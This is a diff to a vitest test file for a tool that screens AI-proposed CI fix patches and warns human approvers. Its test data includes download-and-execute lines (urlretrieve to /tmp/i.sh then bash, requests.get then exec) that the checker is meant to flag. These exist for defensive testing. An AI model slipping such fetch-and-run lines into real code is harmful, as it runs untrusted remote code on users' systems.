@@ -1,5 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { checkPatch } from '../../shared/analysis/index.js';
+import { newIncident } from '../../shared/domain/incident.js';
+import { renderComment } from '../../shared/notify/comment.js';
 import { buildFixFiles, type RepositoryFiles } from '../../shared/remediation/fix-pr.js';
 
 /**
@@ -161,6 +163,32 @@ describe('attack pass 12 (B): content moved into place or composed with lines th
   it('refuses running a download that a context line saves', () => {
     const patch = patchAdding('tests/test_setup.py', ['os.system("bash /tmp/i.sh")'], `urllib.request.urlretrieve("${U}", "/tmp/i.sh")`);
     expect(checkPatch(patch)).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+  });
+
+  it('warns the approver of a download on a context line and a run on an added one', () => {
+    // Prepare: as when both lines are added, a warning and not a refusal (an honest test fetches and spawns).
+    const diff = patchAdding('tests/test_setup.py', ['exec(r.text)'], `r = requests.get("${U}")`);
+    const base = newIncident(
+      {
+        id: 'gh-1-2-1', source: 'github', workflowName: 'CI', runId: 2, runAttempt: 1, category: 'test_failure',
+        failureLines: [{ line: 1, text: 'FAILED tests/test_setup.py::test_setup' }],
+        analysis: { provider: 'openai', model: 'm', rootCause: 'setup', fix: ['fix it'], confidence: 0.95, proposedAction: 'open_fix_pr', rationale: '', evidence: [], latencyMs: 1 },
+      },
+      new Date('2026-11-20T10:00:00Z'),
+    );
+    const waiting = {
+      ...base,
+      analysis: { ...base.analysis!, patch: { diff, files: ['tests/test_setup.py'] } },
+      plan: { action: 'open_fix_pr' as const, proposed: 'open_fix_pr' as const, reasons: ['open a fix PR'], requiresApproval: true, dryRun: false, experiment: null, plannedAt: '2026-11-20T10:00:00Z' },
+      approval: { status: 'pending' as const, requestedAt: '2026-11-20T10:00:00Z' },
+    };
+
+    // Act
+    const body = renderComment(waiting as typeof base);
+
+    // Assert
+    expect(checkPatch(diff).ok).toBe(true);
+    expect(body).toContain('> [!WARNING]\n> This change downloads something and, on another line, runs code');
   });
 
   it('control: a fix next to a download run that is already there is accepted and committed', async () => {
